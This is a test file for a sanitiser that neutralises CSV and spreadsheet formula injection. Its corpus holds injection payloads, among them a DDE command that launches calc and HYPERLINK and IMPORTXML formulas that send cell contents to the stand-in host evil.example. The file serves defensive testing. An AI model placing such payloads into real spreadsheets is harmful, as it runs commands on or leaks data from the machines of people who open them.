import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { csvCell, neutralText } from './neutral-cell.ts';

/** What a spreadsheet may run, or a reader take for a formula. */
const CORPUS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '%0A=1',
  '|calc',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '\u200b=1',
  '\u200b\u200d\ufeff=1',
  '\u202e=1',
  '\u00ad=1',
  '\u2060=1',
  '\u3164\u0301=1'.slice(1),
  '\u0000=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '｜calc',
  '﹦1',
  '﹢1',
  '﹣1',
  '﹫x',
  '\u200b＝1',
  '⁺1',
  '\u22121',
  '"=1"',
  "'=1",
  '"\u200b=1',
  'a;=1',
  'a\t=1',
  'a\n=1',
  'a,=1',
  'a\u2028=1',
  'a;\u200b＝1',
  'a;"=1',
  '\u02d8|calc',
  '\u02d8=1',
  '=\u03381',
];
const HARMLESS = [
  'till',
  'Müller & Söhne',
  'a-b',
  'a=b',
  'x@example.com',
  '東京',
  'USDC',
  '1.5',
  '',
  'a (b) #1',
  '50%',
  '🙂',
];

/** As strict as a reader could be: nothing that he skips, and then none of these. */
const mayRun = (text: string): boolean =>
  text
    .split(/[;,\t\r\n\v\f\u0085\u2028\u2029]/u)
    .flatMap((cell) => [cell, cell.normalize('NFKC')])
    .some((cell) => /^[=+\-@%|\u2212]/u.test(cell.replace(/^[\s\p{C}\p{Z}\p{M}"`]*/u, '')));

describe('a cell of text that others wrote', () => {
  it.each(CORPUS)('runs nowhere: %j', (text) => {
    expect(neutralText(text)).not.toBe(text);
    expect(mayRun(neutralText(text))).toBe(false);
    expect(neutralText(text).replaceAll("'", '')).toBe(text.replaceAll("'", ''));
  });

  it.each(HARMLESS)('is left as it is: %j', (text) => {
    expect(neutralText(text)).toBe(text);
  });

  it('runs nowhere whatever it is made of', () => {
    const pieces = fc.constantFrom(
      '=',
      '＝',
      '+',
      '-',
      '@',
      '|',
      '\t',
      ';',
      ',',
      '\n',
      ' ',
      '\u200b',
      '"',
      "'",
      'a',
      '1',
      '\u0301',
      '%',
    );
    const text = fc
      .array(fc.oneof(pieces, fc.string({ unit: 'grapheme', maxLength: 2 })), { maxLength: 8 })
      .map((all) => all.join(''));
    fc.assert(
      fc.property(text, (value) => expect(mayRun(neutralText(value))).toBe(false)),
      { numRuns: 3_000 },
    );
  });

  it('comes out of a CSV file as it went in', () => {
    const read = (cell: string): string =>
      cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        const cell = csvCell(text);
        expect(read(cell)).toBe(text);
        if (!cell.startsWith('"')) expect(cell).not.toMatch(/[",\r\n]/u);
      }),
    );
  });
});
